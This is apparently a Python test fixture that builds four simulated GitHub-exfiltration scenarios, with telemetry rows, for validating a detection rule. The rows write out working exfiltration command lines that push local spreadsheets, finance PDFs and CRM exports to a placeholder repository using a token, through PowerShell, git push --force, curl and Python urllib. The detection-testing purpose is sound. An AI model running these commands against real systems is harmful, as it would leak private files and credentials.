"""The four validation scenarios, modelled on the manner of Atomic Red Team tests.

Each has the telemetry that it names and no other: the process and network rows that a sensor writes (Microsoft's
columns, no byte counts), and where a proxy saw the request, a file of rows that the ingestion made of the proxy's
log, with byte counts. Sysmon writes the same processes and connections.
"""

from events import API, PUSH, UPLOAD, User, Device, network, other, process
from world import DROP, TOKEN

PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
EXPLORER = "C:\\Windows\\Explorer.EXE"
CMD = '"C:\\Windows\\System32\\cmd.exe"'


def contents_api():
    pc, who = Device("th-lt-0417"), User("k.lindqvist")
    url = f"https://api.github.com/repos/{DROP}/field-notes/contents/q3/pricing.b64"
    source = "C:\\Users\\k.lindqvist\\Documents\\Pricing\\q3-pricing-final.xlsx"
    script = (
        f"$h=@{{Authorization='token {TOKEN}'}};"
        f"$c=[Convert]::ToBase64String([IO.File]::ReadAllBytes('{source}'));"
        "$b=@{message='sync';content=$c}|ConvertTo-Json;"
        f"Invoke-RestMethod -Uri '{url}' -Method PUT -Headers $h -Body $b"
    )
    upload = f'"{PS}" -NoProfile -ExecutionPolicy Bypass -Command "{script}"'
    listing = f'"{PS}" -NoProfile -Command "Get-ChildItem $env:USERPROFILE\\Documents -Recurse -Include *.xlsx,*.docx | Select-Object FullName,Length"'
    day = "2026-10-06T13:"
    rows = [
        process(day + "38:02.114203", pc, who, "cmd.exe", CMD, "explorer.exe", EXPLORER, "userinit.exe",
                why="Opens a command prompt; on its own nothing of note."),
        process(day + "39:47.502818", pc, who, "powershell.exe", listing, "cmd.exe", CMD, "explorer.exe",
                malicious=True, why="Looks for documents to take. No code host is named, so no signal can see it."),
        process(day + "41:26.730551", pc, who, "powershell.exe", upload, "cmd.exe", CMD, "explorer.exe",
                malicious=True, why="The upload: api.github.com, Invoke-RestMethod and the contents API on one command line.", signals=[API]),
        process(day + "41:27.020119", pc, who, "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "powershell.exe", upload, "cmd.exe",
                why="The console window of the PowerShell above; Windows starts one by itself."),
    ]  # fmt: skip
    sensor = [
        network(day + "41:28.377912", pc, who, "powershell.exe", upload, "cmd.exe", "api.github.com",
                malicious=True, why="The connection of the upload as the sensor saw it: no byte count, so signal 1 cannot judge it."),
        network(day + "12:09.900415", pc, who, "msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --profile-directory=Default', "explorer.exe", "github.com",
                why="Reads a page at github.com in the browser."),
    ]  # fmt: skip
    proxy = [
        network(day + "41:28.800000", pc, who, "powershell.exe", upload, "cmd.exe", url, 1_482_137, 2_914,
                malicious=True, why="The PUT as the proxy logged it: 1.41 MB sent, by PowerShell.", signals=[UPLOAD], action="HttpConnectionInspected"),
        network(day + "12:10.100000", pc, who, "msedge.exe", "", "explorer.exe", "https://github.com/features", 4_410, 381_220,
                why="The page read in the browser, as the proxy logged it.", action="HttpConnectionInspected"),
    ]  # fmt: skip
    logged = [
        other("DeviceEvents", day + "41:27.611340", pc, who, "powershell.exe", upload, "cmd.exe", "PowerShellCommand", malicious=True,
              why="Script block logging (4104) holds the whole request. The rule does not read this table.",
              AdditionalFields='{"ScriptBlockText":' + '"' + script.replace("\\", "\\\\").replace('"', '\\"') + '"}'),
    ]  # fmt: skip
    return {"DeviceProcessEvents": rows, "DeviceNetworkEvents": sensor, "proxy": proxy, "DeviceEvents": logged}


def force_push():
    pc, who = Device("th-ws-0230"), User("m.okafor")
    stage = "C:\\Users\\m.okafor\\AppData\\Local\\Temp\\wk"
    remote = f"https://{TOKEN}@github.com/{DROP}/site-backup.git"
    push = f"git  push --force {remote} main"
    day = "2026-10-07T17:"
    git = lambda at, command, why, signals=(): process(
        day + at, pc, who, "git.exe", command, "cmd.exe", CMD, "explorer.exe", malicious=True, why=why, signals=signals
    )
    rows = [
        process(day + "52:11.004410", pc, who, "cmd.exe", CMD, "explorer.exe", EXPLORER, "userinit.exe",
                why="Opens a command prompt; on its own nothing of note."),
        process(day + "53:40.231877", pc, who, "robocopy.exe", f'robocopy  "\\\\th-fs-01\\finance\\2026" {stage} *.pdf /S /NFL', "cmd.exe", CMD, "explorer.exe",
                malicious=True, why="Copies the finance share to the temp folder: staging. No signal looks at it."),
        git("54:31.118022", f"git  -C {stage} init -b main", "Makes a repository of the staged files. Local: nothing leaves yet."),
        git("54:38.903315", f"git  -C {stage} add -A", "Takes up all staged files. Local."),
        git("54:44.457120", f'git  -C {stage} commit -q -m "update"', "Commits them. Local."),
        git("55:02.689174", push.replace("git  ", f"git  -C {stage} "), "The push: git, push and github.com on one command line, and --force to leave one commit only.", [PUSH]),
        process(day + "55:03.212406", pc, who, "git-remote-https.exe", f"git remote-https {remote} {remote}", "git.exe", push, "cmd.exe",
                malicious=True, why="git's own helper for HTTPS. Its FileName is not git.exe and its command line has no push."),
    ]  # fmt: skip
    sensor = [
        network(day + "55:03.940028", pc, who, "git.exe", push, "cmd.exe", "github.com",
                malicious=True, why="The connection of the push. No byte count, so signal 1 cannot judge it."),
    ]  # fmt: skip
    files = [
        other("DeviceFileEvents", day + f"53:4{i}.330{i}72", pc, who, "robocopy.exe", "robocopy", "cmd.exe", "FileCreated", malicious=True,
              why="A finance document appears under the temp folder. The rule does not read this table.",
              FileName=name, FolderPath=f"{stage}\\{name}")
        for i, name in enumerate(["budget-2027-draft.pdf", "bank-mandates.pdf", "payroll-september.pdf"], 1)
    ]  # fmt: skip
    return {"DeviceProcessEvents": rows, "DeviceNetworkEvents": sensor, "DeviceFileEvents": files}


def gist():
    pc, who = Device("th-lt-0388"), User("a.ferreira")
    parent = f'"{PS}" -NoLogo -File C:\\Users\\Public\\post.ps1'
    command = (
        f'"C:\\Windows\\system32\\curl.exe" -s -X POST -H "Authorization: token {TOKEN}" '
        "-H \"Accept: application/vnd.github+json\" -d @C:\\Users\\Public\\g.json https://api.github.com/gists"
    )
    day = "2026-10-08T11:"
    rows = [
        process(day + "07:12.660120", pc, who, "powershell.exe", parent, "explorer.exe", EXPLORER, "userinit.exe",
                malicious=True, why="Runs the script that posts. Its own command line names neither host nor method."),
        process(day + "07:14.008341", pc, who, "curl.exe", command, "powershell.exe", parent, "explorer.exe",
                malicious=True, why="The post: curl, api.github.com, -X POST and gists on one command line.", signals=[API]),
        process(day + "03:55.120004", pc, who, "curl.exe", '"C:\\Windows\\system32\\curl.exe" -sSI https://api.github.com', "powershell.exe", f'"{PS}"', "explorer.exe",
                why="Asks whether api.github.com answers. The host is there, a word for writing is not: one condition short."),
    ]  # fmt: skip
    sensor = [
        network(day + "07:14.400877", pc, who, "curl.exe", command, "powershell.exe", "api.github.com",
                malicious=True, why="The connection of the post as the sensor saw it: no byte count."),
    ]  # fmt: skip
    proxy = [
        network(day + "07:14.500000", pc, who, "curl.exe", command, "powershell.exe", "https://api.github.com/gists", 41_870, 3_120,
                malicious=True, why="The POST with its JSON as the proxy logged it: 41,870 bytes are far under the threshold, so signal 1 stays quiet.", action="HttpConnectionInspected"),
    ]  # fmt: skip
    return {"DeviceProcessEvents": rows, "DeviceNetworkEvents": sensor, "proxy": proxy}


def urllib_script():
    pc, who = Device("th-lt-0402"), User("j.petrov")
    code = (
        "import base64,json,urllib.request;"
        "d=base64.b64encode(open(r'C:\\ProgramData\\crm\\export.csv','rb').read()).decode();"
        f"r=urllib.request.Request('https://api.github.com/repos/{DROP}/datasets/contents/e.csv',"
        "data=json.dumps({'message':'m','content':d}).encode(),method='PUT',"
        f"headers={{'Authorization':'Bearer {TOKEN}'}});urllib.request.urlopen(r)"
    )
    command = f'"C:\\Program Files\\Python312\\python.exe" -c "{code}"'
    day = "2026-10-09T09:"
    rows = [
        process(day + "20:55.410093", pc, who, "python.exe", '"C:\\Program Files\\Python312\\python.exe" -m pip --version', "cmd.exe", CMD, "explorer.exe",
                why="Asks for the version of pip."),
        process(day + "22:10.784411", pc, who, "python.exe", command, "cmd.exe", CMD, "explorer.exe",
                malicious=True, why="The upload: python.exe, api.github.com and method='PUT' in single quotes; contents would catch it too.", signals=[API]),
    ]  # fmt: skip
    sensor = [
        network(day + "22:12.131902", pc, who, "python.exe", command, "cmd.exe", "api.github.com",
                malicious=True, why="The connection of the upload. No byte count, so signal 1 cannot judge it."),
    ]  # fmt: skip
    return {"DeviceProcessEvents": rows, "DeviceNetworkEvents": sensor}


SCENARIOS = [
    ("scenario-1-contents-api", "GitHub Contents API from PowerShell",
     "PowerShell reads a workbook, encodes it and PUTs it into a repository. Find the command line that gives it away, then take the proxy's file out: signal 1 can no longer judge anything.", contents_api),
    ("scenario-2-force-push", "git push of sensitive files from cmd",
     "Finance documents are staged in the temp folder and pushed with --force. Only the push names github.com; watch init, add and commit pass, and why no row tells how much left.", force_push),
    ("scenario-3-gist-curl", "Gist API with curl",
     "A script posts a gist through curl. Signal 3 sees the command line; signal 1 has a byte count this time and still stays quiet: the post is small.", gist),
    ("scenario-4-python-urllib", "Python script with urllib",
     "One line of Python uploads an export. Look at which literal matched, and what is left if the attacker writes method=\"PUT\" instead.", urllib_script),
]  # fmt: skip
